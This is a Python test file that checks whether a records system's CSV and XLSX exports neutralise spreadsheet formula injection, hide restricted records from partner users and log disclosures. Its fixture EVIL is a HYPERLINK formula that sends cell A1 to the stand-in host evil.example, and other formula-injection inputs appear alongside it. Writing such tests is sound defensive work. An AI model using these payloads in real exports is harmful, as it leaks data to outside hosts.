"""Exports to CSV and XLSX: only what the user may see, formulas neutralised, the disclosure audited."""

from __future__ import annotations

import csv
import datetime as dt
import io

from learning_fixtures import PARTNER_ORG, make_people
from openpyxl import load_workbook
from sqlalchemy import select

from threadline.learning import export, records
from threadline.learning import recommendations as recs
from threadline.learning.models import AuditEvent

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SECRET = "Restricted review of a custody death"


def _build(s):
    p = make_people(s)
    fc = p.actor("force_contributor")
    r = records.create_record(s, fc, records.RecordFields(
        kind="homicide_debrief", title=EVIL, record_date=dt.date(2024, 3, 1), summary="-2+3",
        findings="\tcmd", tags=["@SUM(A1)", "+1"], themes=["weapons"]))
    recs.add_recommendation(s, fc, r.id, recs.RecommendationFields(
        action="=1+1", owner_organisation=PARTNER_ORG, due_date=dt.date(2024, 4, 1)))
    secret = records.create_record(s, fc, records.RecordFields(
        kind="organisational_review", title=SECRET, record_date=dt.date(2024, 2, 1), restricted=True))
    recs.add_recommendation(s, fc, secret.id, recs.RecommendationFields(
        action="Ensure custody records are shared", owner_organisation="West Yorkshire Police"))
    return p


def test_neutralise():
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert export.neutralise(bad) == "'" + bad
    assert export.neutralise("plain") == "plain" and export.neutralise(-3) == -3
    assert export.neutralise(["a", "b"]) == "a; b" and export.neutralise(True) == "yes"
    assert export.neutralise(None) == ""


def test_csv_neutralises_and_respects_access(factory):
    with factory() as s, s.begin():
        p = _build(s)
        name, data = export.export(s, p.actor("force_reader"), "records", "csv")
        assert name.endswith(".csv") and "OFFICIAL-SENSITIVE" in name
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        evil = next(r for r in rows if "HYPERLINK" in r["title"])
        assert evil["title"] == "'" + EVIL and evil["summary"] == "'-2+3" and evil["findings"] == "'\tcmd"
        assert evil["tags"] == "'@SUM(A1); +1" and evil["recommendations"] == "1"
        assert SECRET in {r["title"] for r in rows}
        _, pdata = export.export(s, p.actor("partner_admin"), "records", "csv")
        assert SECRET not in pdata.decode("utf-8-sig") and "HYPERLINK" in pdata.decode("utf-8-sig")
        _, rdata = export.export(s, p.actor("partner_admin"), "recommendations", "csv")
        rrows = list(csv.DictReader(io.StringIO(rdata.decode("utf-8-sig"))))
        assert [r["action"] for r in rrows] == ["'=1+1"] and rrows[0]["record_title"] == "'" + EVIL
        events = s.scalars(select(AuditEvent).where(AuditEvent.action == "disclose").order_by(AuditEvent.id)).all()
        assert [(e.username, e.detail) for e in events] == [
            ("force.reader", "exported 2 records as CSV"), ("partner.admin", "exported 1 records as CSV"),
            ("partner.admin", "exported 1 recommendations as CSV")]


def test_xlsx_neutralises_and_filters(factory):
    with factory() as s, s.begin():
        p = _build(s)
        _, data = export.export(s, p.actor("force_reader"), "records", "xlsx", {"kinds": ["homicide_debrief"]})
        _, rdata = export.export(s, p.actor("partner_reader"), "recommendations", "xlsx")
        event = s.scalars(select(AuditEvent).where(AuditEvent.action == "disclose").order_by(AuditEvent.id)).first()
        assert event.detail == "exported 1 records as XLSX" and event.query == "kinds=homicide_debrief"
    ws = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    values = {h: c for h, c in zip(header, ws[2], strict=True)}
    assert ws.max_row == 2  # the filter kept one record
    assert values["title"].value == "'" + EVIL and values["title"].data_type == "s"
    assert values["summary"].value == "'-2+3" and values["tags"].value == "'@SUM(A1); +1"
    assert values["record_date"].value.date() == dt.date(2024, 3, 1)
    assert "OFFICIAL-SENSITIVE" in ws.oddHeader.center.text
    assert not any(isinstance(c.value, str) and c.value.startswith("=") for row in ws.iter_rows() for c in row)
    rws = load_workbook(io.BytesIO(rdata)).active
    actions = [r[0] for r in rws.iter_rows(min_row=2, min_col=6, max_col=6, values_only=True)]
    assert actions == ["'=1+1"]
